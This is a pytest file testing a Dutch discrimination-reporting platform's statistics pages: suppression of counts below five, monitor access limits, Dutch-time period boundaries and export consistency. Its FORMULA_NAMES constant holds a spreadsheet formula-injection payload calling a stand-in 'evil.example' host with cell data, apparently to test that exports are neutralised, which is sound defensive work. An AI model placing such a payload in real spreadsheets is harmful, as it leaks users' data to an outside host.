"""Statistics: monitors count and never read; every path shows the same suppressed table.

The expected numbers are worked out by hand from the reports each test seeds
(dates set directly, as DESIGN.md "Statistics and disclosure control" and the
issue describe them), not derived from the code. The disclosure algorithm itself
is property-tested in tests/test_disclosure.py; here it is checked as the
monitor meets it: on the page, in the chart, the exports and (see
tests/test_statistics_api.py) the API.
"""

from __future__ import annotations

import csv
import html as html_lib
import io
import json
import re
from datetime import date, datetime, timedelta
from urllib.parse import urlsplit

import openpyxl
import pytest
import sqlalchemy as sa

from stagepact import disclosure, workflow
from stagepact.deadlines import local_date
from stagepact.deadlines import today as local_today
from stagepact.extensions import db
from stagepact.models import (
    Attachment,
    AuditEvent,
    Case,
    Company,
    Investigation,
    Message,
    Referral,
)
from stagepact.vocab import (
    Channel,
    Decision,
    InvestigationOrigin,
    InvestigationStatus,
    Outcome,
    Role,
    Status,
)
from tests.factories import (
    make_attachment,
    make_case,
    make_company,
    make_institution,
    make_user,
)

K = 5
NARRATIVE = "Mijn praktijkopleider Henk de Vries zei dat iemand met mijn naam niet welkom is."
REPORTER = "Yusuf Demir"
REPORTER_EMAIL = "yusuf.demir@example.org"
COMPANY = "Bakkerij Van Dalen BV"
COMPANY_TEXT = "de bakker op de hoek bij station Zwolle"
PROGRAMME = "Bakker niveau 2, klas van meester Jansen"
INCIDENT_PERIOD = "tweede week van de stage bij Van Dalen"
SUMMARY = "Student na twee weken van de stage gestuurd; het bedrijf noemde zijn naam."

DIMENSIONS = [
    "phase",
    "ground",
    "form",
    "who",
    "channel",
    "outcome",
    "referred",
    "escalated",
    "sbb_decision",
]
LEVELS = ["sector", "region", "institution"]

# Labels as the page shows them (nl), written out by hand.
PHASE = {
    "application": "Bij het solliciteren of de selectie",
    "internship": "Tijdens de stage",
    "school": "Op school (bijvoorbeeld: school ging mee in een verzoek van het bedrijf)",
    "other": "Anders",
    "not_given": "Niet ingevuld",
}
MEASURE_HEADER = [
    "Aantal meldingen",
    "Mediaan dagen tot bevestiging",
    "Mediaan dagen tot afsluiten",
    "Deel op tijd bevestigd",
    "Deel op tijd teruggekoppeld",
]
RULE = (
    "Aantallen van 1 tot en met 4 staan als <5. Om die niet te laten terugrekenen zijn ook "
    "andere cellen (×) verborgen. Medianen en percentages over minder dan 5 meldingen staan "
    "er niet."
)
PER_GROUND_NOTE = "Een melding met meer gronden telt bij elke grond één keer mee."
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")',
    "+31 20 555 0000",
    "-x Vakschool",
    "@y College",
]


# --- Seeding ---------------------------------------------------------------------------------


def at(text: str) -> datetime:
    """A naive UTC moment, as stored."""
    return datetime.fromisoformat(text)


def report(
    institution,
    submitted: datetime,
    *,
    grounds=(),
    ack: float | None = None,
    ack_due_days: int = 5,
    feedback: float | None = None,
    feedback_due_days: int = 90,
    closed: float | None = None,
    outcome: Outcome = Outcome.RESOLVED,
    **fields,
) -> Case:
    """A report submitted at `submitted` (UTC); the other moments in days after it.

    The acknowledgement is due `ack_due_days` calendar days after the Dutch
    submission date, feedback `feedback_due_days` after the acknowledgement's.
    The before_flush listener works out whether each deadline was met.
    """
    case, _code = make_case(institution, grounds=list(grounds), **fields)
    case.submitted_at = submitted
    case.ack_due_on = local_date(submitted) + timedelta(days=ack_due_days)
    if ack is not None:
        case.acknowledged_at = submitted + timedelta(days=ack)
        case.feedback_due_on = local_date(case.acknowledged_at) + timedelta(days=feedback_due_days)
        case.status = Status.TRIAGE
    if feedback is not None:
        case.feedback_at = submitted + timedelta(days=feedback)
        case.status = Status.FOLLOW_UP
    if closed is not None:
        case.closed_at = submitted + timedelta(days=closed)
        case.outcome = outcome
        case.status = Status.CLOSED
    db.session.flush()
    return case


def reports(n: int, institution, submitted: datetime, **fields) -> list[Case]:
    return [report(institution, submitted, **fields) for _ in range(n)]


MARCH = at("2025-03-12T10:00:00")


def seed_mixed() -> dict:
    """Three institutions in two regions (one without), reports over 2024-2025.

    Hand counts for 2025 (calendar year), by phase: application 12, internship 9,
    school 2, other 0, unknown 1 -> 24.
    """
    albeda = make_institution(name="Albeda Vakschool", region="Rijnmond")
    curio = make_institution(name="Curio Breda", region="West-Brabant")
    nova = make_institution(name="Nova Lyceum", region="")
    make_user(Role.HANDLER, albeda, name="Hanna Handler")
    company = make_company(name=COMPANY)
    made = []
    # Albeda, March 2025: 7 application (origin + name), acknowledged after 1..7 days.
    for day in range(1, 8):
        made.append(
            report(
                albeda,
                MARCH,
                phase="application",
                grounds=["origin", "name"],
                form="refused",
                ack=day,
                closed=10 * day,
                outcome=Outcome.RESOLVED if day <= 5 else Outcome.WITHDRAWN,
                company_id=company.id,
                narrative=NARRATIVE,
                is_anonymous=False,
                reporter_name=REPORTER,
                email=REPORTER_EMAIL,
            )
        )
    # Curio, March 2025: 5 application (religion), 6 internship (origin), 2 school (none).
    made += reports(5, curio, MARCH, phase="application", grounds=["religion"], ack=2)
    made += reports(6, curio, MARCH, phase="internship", grounds=["origin"], ack=3, feedback=20)
    made += reports(2, curio, MARCH, phase="school", grounds=[])
    # Nova, February 2025: 3 internship (age), 1 without phase (unknown ground).
    made += reports(3, nova, at("2025-02-03T09:00:00"), phase="internship", grounds=["age"])
    made += reports(1, nova, at("2025-02-03T09:00:00"), grounds=["unknown"])
    # Autumn 2024 (school year 2024-2025, calendar year 2024): 6 at Albeda, 2 at Nova.
    made += reports(6, albeda, at("2024-10-01T08:00:00"), phase="other", grounds=["gender"])
    made += reports(2, nova, at("2024-10-01T08:00:00"), phase="other", grounds=["gender"])
    db.session.commit()
    return {"albeda": albeda, "curio": curio, "nova": nova, "cases": made, "company": company}


# --- Reading what the monitor sees ----------------------------------------------------------


def table_rows(page: str, table_id: str = "stats-table") -> list[list[str]]:
    """The header and body rows of a statistics table, as text."""
    match = re.search(rf'<table[^>]*id="{table_id}".*?</table>', page, re.S)
    assert match, f"no table {table_id} on the page"
    return [
        [html_lib.unescape(c).strip() for c in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", tr, re.S)]
        for tr in re.findall(r"<tr[^>]*>.*?</tr>", match.group(0), re.S)
    ]


def caption(page: str, table_id: str = "stats-table") -> tuple[str, str]:
    match = re.search(rf'<caption id="{table_id}-caption">(.*?)</caption>', page, re.S)
    assert match
    title, _sep, period = html_lib.unescape(match.group(1)).rpartition(", ")
    return title, period


def hints_after(page: str, table_id: str = "stats-table") -> list[str]:
    """The rule and the notes printed under a table."""
    tail = page.split(f'id="{table_id}"', 1)[1].split("</table>", 1)[1]
    tail = re.split(r"<figure|<section|<p>", tail, maxsplit=1)[0]
    return [html_lib.unescape(h).strip() for h in re.findall(r'<p class="hint">(.*?)</p>', tail)]


def column(rows: list[list[str]], index: int = 1) -> dict[str, str]:
    """Row label -> the cell in one column (the count, by default)."""
    return {row[0]: row[index] for row in rows[1:]}


def visible_numbers(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows[1:] for cell in row[1:]]


def field_error(page: str, field_id: str) -> str:
    match = re.search(rf'<p class="field-error" id="{field_id}-error">(.*?)</p>', page, re.S)
    assert match, f"no error next to {field_id}"
    text = re.sub(r"<[^>]+>|\s+", " ", match.group(1)).replace("Fout:", "")
    return html_lib.unescape(text).strip()


def chart_groups(page: str) -> list[tuple[str, list[str], int]]:
    """(label, bar texts, drawn bars) per group of the SVG chart."""
    svg = re.search(r"<svg[^>]*role=\"img\".*?</svg>", page, re.S).group(0)
    groups: list[tuple[str, list[str], int]] = []
    for element in re.findall(r"<text [^>]*>.*?</text>|<rect [^>]*>", svg, re.S):
        text = html_lib.unescape(re.sub(r"<[^>]+>", "", element)).strip()
        if element.startswith("<rect"):
            label, texts, drawn = groups[-1]
            groups[-1] = (label, texts, drawn + 1)
        elif 'text-anchor="end"' in element:
            groups.append((text, [], 0))
        else:
            groups[-1][1].append(text)
    return groups


def csv_rows(response) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def xlsx_sheet(response):
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    return book.active


def xlsx_rows(response) -> list[list[object]]:
    sheet = xlsx_sheet(response)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def safe(text: str) -> str:
    """What a spreadsheet-safe export makes of a text (a leading apostrophe)."""
    return "'" + text if text[:1] in ("=", "+", "-", "@") else text


def kinds(header: list[str]) -> list[str]:
    """What each numeric column holds: 'count', 'median' or 'share'."""
    out = []
    for name in header[1:]:
        if name.startswith("Mediaan"):
            out.append("median")
        elif name.startswith("Deel"):
            out.append("share")
        else:
            out.append("count")
    return out


def agrees(text: str, value: object, kind: str) -> bool:
    """Whether a machine value (XLSX, JSON, API) is the number the page shows as `text`."""
    if text in ("×", "–"):
        return value is None
    if text == "<5":
        return value == "<5"
    if kind == "count":
        return type(value) is int and value == int(text)
    if kind == "median":
        return (
            isinstance(value, float | int)
            and not isinstance(value, bool)
            and abs(value - float(text.replace(",", "."))) < 0.051
        )
    return isinstance(value, float | int) and round(value * 100) == int(text.rstrip("%"))


def assert_machine_rows_match_page(page_rows: list[list[str]], machine_rows) -> None:
    header, body = page_rows[0], page_rows[1:]
    assert len(machine_rows) == len(body)
    for shown, machine in zip(body, machine_rows, strict=True):
        assert machine[0] == shown[0]
        assert len(machine) == len(shown)
        for text, value, kind in zip(shown[1:], machine[1:], kinds(header), strict=True):
            assert agrees(text, value, kind), (shown[0], text, value, kind)


def count_cells(header: list[str], rows) -> list:
    """The cells of the count columns (not medians or shares) of machine or text rows."""
    columns = [i + 1 for i, kind in enumerate(kinds(header)) if kind == "count"]
    return [row[i] for row in rows for i in columns]


def no_small_count(cells) -> bool:
    """True when no cell shows a count from 1 to 4."""
    for cell in cells:
        if isinstance(cell, bool) or cell is None:
            continue
        if isinstance(cell, int) and 1 <= cell <= K - 1:
            return False
        if isinstance(cell, str) and re.fullmatch(r"[1-4]", cell.strip()):
            return False
    return True


def events(action: str) -> list[AuditEvent]:
    return db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)
    ).all()


def every_row() -> dict[str, list]:
    """Every row of every table, to see that a request changed nothing."""
    db.session.expire_all()
    return {
        table.name: sorted((tuple(row) for row in db.session.execute(sa.select(table))), key=repr)
        for table in db.metadata.sorted_tables
    }


# --- Fixtures --------------------------------------------------------------------------------


@pytest.fixture
def monitor():
    return make_user(Role.MONITOR, name="Mirjam Monitor", email="mirjam@minocw.example")


@pytest.fixture
def as_monitor(client, auth, monitor):
    assert auth.login(monitor).status_code == 302
    return client


def view(client, status: int = 200, **params):
    """The statistics page for `params` (committed first, as a request would see it)."""
    db.session.commit()
    response = client.get("/statistieken/", query_string=params)
    assert response.status_code == status, response.get_data(as_text=True)[:2000]
    return response.get_data(as_text=True)


def counts(client, **params) -> dict[str, str]:
    return column(table_rows(view(client, **params)))


# --- A monitor reaches no case ---------------------------------------------------------------

# A monitor's own pages; every other blueprint (desk, SBB, platform, an institution's
# organisation pages, and any added later) is walked, with the student's case pages.
OWN_BLUEPRINTS = {"stats", "api", "auth", "student", "language"}
KNOWN_WALKED = {
    "desk.inbox",
    "desk.case_detail",
    "desk.close",
    "desk.download",
    "sbb.queue",
    "sbb.investigation",
    "sbb.company",
    "sbb.download",
    "platform.index",
    "platform.institutions",
    "organisation.log",
    "organisation.staff",
    "student.case",
    "student.send_message",
    "student.download",
    "student.withdraw",
}
# Valid data for every form at once, so that a request that wrongly got through would act.
FORM_DATA = {
    "outcome": str(Outcome.OUT_OF_SCOPE),
    "message": "Wij sluiten af.",
    "reason": "Nieuwe informatie.",
    "body": "Een bericht dat hier niet hoort.",
    "is_feedback": "y",
    "summary": "Een samenvatting die hier niet hoort.",
    "decision": str(Decision.REVOCATION),
    "reasoning": "Een besluit dat hier niet hoort.",
    "upheld": "yes",
    "channel": "phone",
    "narrative": "Ingevoerd door een monitor.",
    "reporter_role": "self",
    "anonymity": "anonymous",
    "contact_preference": "none",
    "name": "Nieuwe naam",
    "email": "nieuw@example.org",
    "region": "Nergens",
    "confirm": "y",
    "erase-confirm": "y",
    "role": "handler",
}


CASE_PAGES = ("/behandelen", "/sbb", "/beheer", "/volgen/melding")
_ID_NAMES = [
    "case_id",
    "attachment_id",
    "investigation_id",
    "company_id",
    "adv_id",
    "institution_id",
    "user_id",
]


def _is_student_case_rule(rule) -> bool:
    return rule.endpoint.startswith("student.") and rule.rule.startswith("/volgen/")


def _walk(app, ids: dict) -> list[tuple[str, str, str]]:
    """(method, url, endpoint) for every rule but a monitor's own, with the student's case pages."""
    adapter = app.url_map.bind("meldpunt.test")
    found = []
    for rule in app.url_map.iter_rules():
        blueprint = rule.endpoint.split(".")[0]
        own = blueprint in OWN_BLUEPRINTS and not _is_student_case_rule(rule)
        if rule.endpoint == "static" or own:
            continue
        assert rule.arguments <= set(ids), f"teach this test the arguments of {rule.rule}"
        values = {name: ids[name] for name in rule.arguments}
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            found.append(
                (method, adapter.build(rule.endpoint, values, method=method), rule.endpoint)
            )
    return found


def _case_world():
    """An institution with an escalated case (with a file), a closed one and a referral."""
    institution = make_institution(name="Vakcollege Rivierenland", region="Gelderland")
    handler = make_user(Role.HANDLER, institution, name="Hanna Handler")
    company = make_company(name=COMPANY)
    case, _code = make_case(
        institution,
        narrative=NARRATIVE,
        is_anonymous=False,
        reporter_name=REPORTER,
        email=REPORTER_EMAIL,
        consent_sbb=True,
        consent_adv=True,
        consent_contact=True,
        company_id=company.id,
        company_text=COMPANY_TEXT,
        programme=PROGRAMME,
        incident_period=INCIDENT_PERIOD,
        phase="internship",
    )
    attachment = make_attachment(case)
    workflow.acknowledge(case, handler)
    workflow.send_message(case, handler, "Wij bellen je morgen, Yusuf.")
    investigation = workflow.escalate(case, handler, SUMMARY, False)
    closed, _code = make_case(institution, narrative=NARRATIVE, company_id=company.id)
    workflow.acknowledge(closed, handler)
    workflow.start_follow_up(closed, handler)
    workflow.close(closed, handler, Outcome.RESOLVED, "We sluiten je melding af, Yusuf.")
    referred, _code = make_case(institution, narrative=NARRATIVE, consent_adv=True)
    workflow.acknowledge(referred, handler)
    workflow.refer(referred, handler, institution.adv, SUMMARY, False)
    db.session.commit()
    return {
        "case_id": case.id,
        "attachment_id": attachment.id,
        "investigation_id": investigation.id,
        "company_id": company.id,
        "adv_id": institution.adv_id,
        "institution_id": institution.id,
        "user_id": handler.id,
        "numbers": [case.number, closed.number, referred.number],
    }


def test_a_monitor_logs_in_onto_the_statistics_page(client, auth, monitor):
    response = auth.login(monitor)
    assert response.status_code == 302
    assert urlsplit(response.headers["Location"]).path == "/statistieken/"
    assert client.get("/statistieken/").status_code == 200


def test_the_walk_over_the_url_map_finds_the_case_routes_of_every_role(app):
    endpoints = {endpoint for _m, _u, endpoint in _walk(app, dict.fromkeys(_ID_NAMES, 1))}
    assert KNOWN_WALKED <= endpoints


def test_a_monitor_reaches_no_case_no_case_list_and_no_other_roles_page(app, client, as_monitor):
    world = _case_world()
    before = every_row()

    answers = {}
    for method, url, _endpoint in _walk(app, world):
        response = client.post(url, data=FORM_DATA) if method == "POST" else client.get(url)
        body = response.get_data(as_text=True)
        assert NARRATIVE not in body and REPORTER not in body, (method, url)
        assert not any(number in body for number in world["numbers"]), (method, url)
        code = response.status_code
        if code in (302, 303):
            target = urlsplit(response.headers["Location"]).path
            assert not target.startswith(CASE_PAGES), (method, url, target)
            code = "redirect"
        elif code == 401 and url.startswith("/volgen/"):
            # A student whose page timed out is asked for the receipt code again.
            assert '<form method="post" action="/volgen"' in body, url
            code = "code page"
        answers[(method, url)] = code

    assert len(answers) >= len(KNOWN_WALKED)
    # Desk, SBB and platform routes are plain 404s; the student's case pages only send
    # a browser without the student's code back to the code form.
    assert {r: c for r, c in answers.items() if not r[1].startswith("/volgen/") and c != 404} == {}
    assert {r: c for r, c in answers.items() if c not in (404, "redirect", "code page")} == {}
    assert every_row() == before


def test_the_monitors_pages_show_counts_only_whatever_is_chosen(as_monitor):
    world = _case_world()
    year = local_today().year
    pages = []
    for level in LEVELS:
        for dimension in DIMENSIONS:
            pages.append(view(as_monitor, year=year, level=level, dimension=dimension))
    pages.append(view(as_monitor, year=year, dimension="phase", dimension2="ground"))

    params = {"year": year, "dimension": "phase"}
    pages += [
        as_monitor.get(f"/statistieken/export.{kind}", query_string=params).get_data(as_text=True)
        for kind in ("csv", "json")
    ]
    secrets = (NARRATIVE, REPORTER, REPORTER_EMAIL, COMPANY, COMPANY_TEXT, PROGRAMME, SUMMARY)
    for page in pages:
        for secret in (*secrets, INCIDENT_PERIOD, *world["numbers"]):
            assert secret not in page
        assert "/behandelen" not in page and "/sbb/" not in page
        assert "/volgen/melding" not in page


@pytest.mark.parametrize("role", [Role.SBB_REVIEWER, Role.PLATFORM_ADMIN])
def test_statistics_are_404_to_roles_that_do_not_count(client, auth, role):
    auth.login(make_user(role))
    for url in (
        "/statistieken/",
        "/statistieken/?year=2025",
        "/statistieken/export.csv?year=2025",
        "/statistieken/export.xlsx",
        "/statistieken/export.json",
    ):
        assert client.get(url).status_code == 404, url
    assert events("statistics.viewed") == [] and events("statistics.exported") == []


@pytest.mark.parametrize("role", [Role.HANDLER, Role.INSTITUTION_ADMIN])
def test_institution_staff_have_no_sector_exports(client, auth, role):
    auth.login(make_user(role))
    for kind in ("csv", "xlsx", "json"):
        assert client.get(f"/statistieken/export.{kind}?year=2025").status_code == 404
    assert events("statistics.exported") == []


def test_anonymous_visitors_are_sent_to_the_login_page(client):
    for url in ("/statistieken/", "/statistieken/export.csv?year=2025"):
        response = client.get(url)
        assert response.status_code == 302
        assert urlsplit(response.headers["Location"]).path == "/inloggen"


# --- Hand-computed numbers -------------------------------------------------------------------


def test_counts_per_phase_with_unknown_and_small_counts_shown_as_below_five(as_monitor):
    institution = make_institution()
    reports(7, institution, MARCH, phase="application")
    reports(5, institution, MARCH, phase="internship")
    reports(2, institution, MARCH, phase="school")
    reports(3, institution, MARCH)  # no phase given

    rows = table_rows(view(as_monitor, period="year", year=2025, dimension="phase"))

    assert rows[0] == ["Fase", *MEASURE_HEADER]
    assert column(rows) == {
        PHASE["application"]: "7",
        PHASE["internship"]: "5",
        PHASE["school"]: "<5",
        PHASE["other"]: "0",
        PHASE["not_given"]: "<5",
        "Totaal": "17",
    }
    # 2 + 3 = 17 - 7 - 5 - 0: each of the two could be 1 to 4, so nothing more is hidden.
    assert [row[0] for row in rows[1:]] == [*PHASE.values(), "Totaal"]


def test_the_unknown_row_appears_only_when_some_report_left_the_field_empty(as_monitor):
    institution = make_institution()
    reports(5, institution, MARCH, phase="application", form="remark")

    rows = table_rows(view(as_monitor, year=2025, dimension="form"))

    assert "Niet ingevuld" not in column(rows)
    assert column(rows)["Een opmerking of grap"] == "5"
    assert column(rows)["Totaal"] == "5"


def test_a_report_with_several_grounds_counts_once_per_ground_and_the_page_says_so(as_monitor):
    institution = make_institution()
    reports(6, institution, MARCH, grounds=["origin", "religion"])
    reports(5, institution, MARCH, grounds=["origin"])
    reports(5, institution, MARCH, grounds=[])  # no ground given
    reports(2, institution, MARCH, grounds=["unknown"])  # "Weet ik niet"
    reports(5, institution, MARCH, grounds=["age", "name", "language"])

    page = view(as_monitor, year=2025, dimension="ground")
    rows = table_rows(page)
    shown = column(rows)

    assert shown["Afkomst, huidskleur of etniciteit"] == "11"
    assert shown["Geloof of levensovertuiging (bijvoorbeeld een hoofddoek)"] == "6"
    assert (
        shown["Leeftijd"] == shown["Naam (voor- of achternaam)"] == shown["Taal of accent"] == "5"
    )
    # Reports without a ground, and reports whose student did not know, each have their row.
    assert shown["Niet ingevuld"] == "5"
    assert shown["Weet ik niet"] == "<5"
    # A zero, unless it is hidden to protect the "<5" of "Weet ik niet".
    assert shown["Handicap of chronische ziekte"] in ("0", "×")
    # The total of the count column adds up the rows: 23 reports give 39 (report, ground) pairs.
    assert shown["Totaal"] == "39"
    assert PER_GROUND_NOTE in hints_after(page)
    # The note is there whenever ground is one of the axes, and only then.
    assert PER_GROUND_NOTE in hints_after(
        view(as_monitor, year=2025, dimension="phase", dimension2="ground")
    )
    assert PER_GROUND_NOTE in hints_after(
        view(as_monitor, year=2025, level="region", dimension="ground")
    )
    assert PER_GROUND_NOTE not in hints_after(view(as_monitor, year=2025, dimension="phase"))


def _measure_world():
    """Sixteen reports in March 2025; acknowledgement due 5 days after submission.

    application (6): acknowledged after 1, 2, 3, 4, 5, 5 days (all on time), five closed
        after 10..50 days, all six fed back on time.
    internship (5): acknowledged after 2, 4, 6, 8, 10 days (2 on time, 3 late), four closed
        after 10..40 days with feedback on time, the fifth open with feedback overdue.
    school (5): never acknowledged, acknowledgement overdue.
    """
    institution = make_institution()
    for day, closed in zip([1, 2, 3, 4, 5, 5], [10, 20, 30, 40, 50, None], strict=True):
        report(institution, MARCH, phase="application", ack=day, feedback=day + 3, closed=closed)
    for day, closed in zip([2, 4, 6, 8, 10], [10, 20, 30, 40, None], strict=True):
        report(
            institution,
            MARCH,
            phase="internship",
            ack=day,
            feedback=closed,
            closed=closed,
            feedback_due_days=60,
        )
    reports(5, institution, MARCH, phase="school")
    db.session.commit()


def test_medians_and_shares_per_row_and_for_all_reports_by_hand(as_monitor):
    _measure_world()

    rows = table_rows(view(as_monitor, year=2025, dimension="phase"))

    assert rows[1:] == [
        # median ack of 1,2,3,4,5,5 (even) = 3.5; of closing 10..50 (odd) = 30
        [PHASE["application"], "6", "3,5", "30,0", "100%", "100%"],
        # 2,4,6,8,10 (odd) = 6; only four closed: no median; 2 of 5 on time, 4 of 5 fed
        # back: each share would give a count below five away
        [PHASE["internship"], "5", "6,0", "×", "×", "×"],
        # none acknowledged, all five overdue: 0 of 5 on time; no feedback due yet
        [PHASE["school"], "5", "–", "–", "0%", "–"],
        [PHASE["other"], "0", "–", "–", "–", "–"],
        # all: ack 1,2,2,3,4,4,5,5,6,8,10 -> 4; closing 10,10,20,20,30,30,40,40,50 -> 30;
        # 8 of 16 acknowledged on time; 10 of 11 fed back (one missed: hidden)
        ["Totaal", "16", "4,0", "30,0", "50%", "×"],
    ]


def test_deadline_results_are_recorded_with_the_case_when_dates_are_set_directly():
    institution = make_institution()
    on_time = report(institution, MARCH, ack=5, feedback=30)
    late = report(institution, MARCH, ack=6, feedback=200)
    new = report(institution, MARCH)
    db.session.commit()
    db.session.expire_all()

    assert (on_time.ack_on_time, on_time.feedback_on_time) == (True, True)
    assert (late.ack_on_time, late.feedback_on_time) == (False, False)
    assert (new.ack_on_time, new.feedback_on_time) == (None, None)


def test_medians_count_whole_days_from_submission(as_monitor):
    institution = make_institution()
    # Acknowledged after 12 hours, 1 day 22 hours, 2 days 5 hours, 3 days 23 hours and
    # 4 days: 0, 1, 2, 3 and 4 whole days. Closed after 10.2, 11.99, 12.5, 13 and 20.7 days.
    acks = (0.5, 1 + 22 / 24, 2 + 5 / 24, 3 + 23 / 24, 4)
    for ack, closed in zip(acks, (10.2, 11.99, 12.5, 13, 20.7), strict=True):
        report(institution, MARCH, phase="other", ack=ack, closed=closed)

    row = table_rows(view(as_monitor, year=2025, dimension="phase"))[4]

    assert row[:4] == [PHASE["other"], "5", "2,0", "12,0"]


def test_a_median_over_fewer_than_five_reports_is_hidden_even_in_a_visible_row(as_monitor):
    institution = make_institution()
    # Seven reports; four acknowledged (after 1, 2, 3, 9 days), none closed.
    for day in (1, 2, 3, 9):
        report(institution, MARCH, phase="internship", ack=day)
    reports(3, institution, MARCH, phase="internship")

    row = table_rows(view(as_monitor, year=2025, dimension="phase"))[2]

    assert row[:4] == [PHASE["internship"], "7", "×", "–"]


def test_a_share_is_shown_when_met_and_missed_are_both_zero_or_at_least_five(as_monitor):
    institution = make_institution()
    for _ in range(5):
        report(institution, MARCH, phase="application", ack=1)  # on time
        report(institution, MARCH, phase="application", ack=9)  # late
    for _ in range(6):
        report(institution, MARCH, phase="internship", ack=9)  # all late
    for _ in range(4):
        report(institution, MARCH, phase="school", ack=1)  # all on time, but only 4
    reports(1, institution, MARCH, phase="school", ack=9)

    shares = column(table_rows(view(as_monitor, year=2025, dimension="phase")), 4)

    assert shares[PHASE["application"]] == "50%"
    assert shares[PHASE["internship"]] == "0%"
    assert shares[PHASE["school"]] == "×"  # 4 of 5: one late report would be given away
    assert shares["Totaal"] == "43%"  # 9 of 21


BOUNDARIES = [
    # (parameters, caption period, in at the start, in at the end, out before, out after)
    pytest.param(
        {"period": "year", "year": 2025},
        "2025",
        "2024-12-31T23:30:00",  # 00:30 on 1 January in the Netherlands
        "2025-12-31T22:59:00",  # 23:59 on 31 December
        "2024-12-31T22:59:00",
        "2025-12-31T23:30:00",  # 00:30 on 1 January 2026: next year
        id="calendar-year",
    ),
    pytest.param(
        {"period": "school_year", "year": 2024},
        "2024-2025",
        "2024-07-31T22:00:00",  # 00:00 on 1 August (summer time)
        "2025-07-31T21:59:00",
        "2024-07-31T21:59:00",
        "2025-07-31T22:00:00",
        id="school-year",
    ),
    pytest.param(
        {"period": "quarter", "year": 2025, "quarter": 1},
        "2025 Q1",
        "2024-12-31T23:00:00",
        "2025-03-31T21:59:00",  # summer time since 30 March
        "2024-12-31T22:59:00",
        "2025-03-31T22:00:00",
        id="quarter",
    ),
    pytest.param(
        {"period": "month", "year": 2025, "month": 10},
        "2025-10",
        "2025-09-30T22:00:00",
        "2025-10-31T22:59:00",  # winter time since 26 October
        "2025-09-30T21:59:00",
        "2025-10-31T23:00:00",
        id="month",
    ),
    pytest.param(
        # A range runs in whole months: from 1 February to 31 March, whatever the days.
        {"period": "range", "date_from": "2025-02-10", "date_to": "2025-03-12"},
        "2025-02 – 2025-03",
        "2025-01-31T23:00:00",
        "2025-03-31T21:59:00",
        "2025-01-31T22:59:00",
        "2025-03-31T22:00:00",
        id="range",
    ),
]


@pytest.mark.parametrize(("params", "label", "first", "last", "before", "after"), BOUNDARIES)
def test_periods_begin_and_end_at_midnight_in_the_netherlands(
    as_monitor, params, label, first, last, before, after
):
    institution = make_institution()
    reports(5, institution, at(first), phase="application")
    reports(5, institution, at(last), phase="internship")
    reports(5, institution, at(before), phase="school")
    reports(5, institution, at(after), phase="other")

    page = view(as_monitor, dimension="phase", **params)

    assert caption(page)[1] == label
    assert column(table_rows(page)) == {
        PHASE["application"]: "5",
        PHASE["internship"]: "5",
        PHASE["school"]: "0",
        PHASE["other"]: "0",
        "Totaal": "10",
    }


def test_ranges_that_differ_by_a_day_give_the_same_table(as_monitor):
    """Otherwise subtracting one table from the other shows what was reported that day."""
    institution = make_institution()
    reports(6, institution, at("2025-03-05T10:00:00"), phase="application")
    reports(1, institution, at("2025-03-16T10:00:00"), phase="internship")

    up_to_15 = view(
        as_monitor, dimension="phase", period="range", date_from="2025-03-01", date_to="2025-03-15"
    )
    up_to_16 = view(
        as_monitor, dimension="phase", period="range", date_from="2025-03-01", date_to="2025-03-16"
    )

    assert table_rows(up_to_15) == table_rows(up_to_16)
    assert caption(up_to_16)[1] == "2025-03"


def test_a_report_of_new_years_night_counts_in_the_dutch_year(as_monitor):
    institution = make_institution()
    reports(5, institution, at("2025-12-31T23:30:00"), phase="application")

    assert counts(as_monitor, year=2025, dimension="phase")["Totaal"] == "0"
    assert counts(as_monitor, year=2026, dimension="phase")["Totaal"] == "5"


def test_level_region_counts_each_institutions_reports_under_its_region(as_monitor):
    north_1 = make_institution(name="Noorderpoort", region="Groningen")
    north_2 = make_institution(name="Alfa-college", region="Groningen")
    south = make_institution(name="Summa", region="Eindhoven")
    nowhere = make_institution(name="Zonder Regio", region="")
    make_institution(name="Stil College", region="Zeeland")  # no reports
    reports(5, north_1, MARCH, phase="application")
    reports(5, north_2, MARCH, phase="internship")
    reports(6, south, MARCH, phase="application")
    reports(5, nowhere, MARCH, phase="other")

    rows = table_rows(view(as_monitor, year=2025, level="region", dimension="phase"))

    assert rows[0] == [
        "Regio",
        *[PHASE[p] for p in ("application", "internship", "school", "other")],
        "Totaal",
    ]
    assert rows[1:] == [
        ["Eindhoven", "6", "0", "0", "0", "6"],
        ["Groningen", "5", "5", "0", "0", "10"],
        ["Zeeland", "0", "0", "0", "0", "0"],
        ["Onbekend", "0", "0", "0", "5", "5"],
        ["Totaal", "11", "5", "0", "5", "21"],
    ]


def test_level_institution_lists_every_institution_by_name(as_monitor):
    albeda = make_institution(name="Albeda")
    make_institution(name="Berechja")  # no reports: a row of zeros
    curio = make_institution(name="Curio")
    reports(5, albeda, MARCH, channel=Channel.PHONE)
    reports(7, curio, MARCH, channel=Channel.WEB)
    reports(5, curio, MARCH, channel=Channel.MAIL)

    rows = table_rows(view(as_monitor, year=2025, level="institution", dimension="channel"))

    assert rows == [
        ["Instelling", "Webformulier", "Telefoon", "Bezoek", "Mail of brief", "Totaal"],
        ["Albeda", "0", "5", "0", "0", "5"],
        ["Berechja", "0", "0", "0", "0", "0"],
        ["Curio", "7", "0", "0", "5", "12"],
        ["Totaal", "7", "5", "0", "5", "17"],
    ]


def test_a_two_way_table_shows_the_true_counts_or_hides_them_safely(as_monitor):
    institution = make_institution()
    truth = {
        ("application", "open"): 6,
        ("application", "resolved"): 5,
        ("application", "withdrawn"): 2,
        ("internship", "open"): 5,
        ("internship", "resolved"): 7,
        ("school", "not_substantiated"): 5,
    }
    for (phase, outcome), n in truth.items():
        if outcome == "open":
            reports(n, institution, MARCH, phase=phase)
        else:
            reports(n, institution, MARCH, phase=phase, closed=3, outcome=Outcome(outcome))

    page = view(as_monitor, year=2025, dimension="phase", dimension2="outcome")
    rows = table_rows(page)

    phases = ["application", "internship", "school", "other"]
    outcomes = ["open", *(str(o) for o in Outcome)]
    assert rows[0][0] == "Fase" and rows[0][-1] == "Totaal"
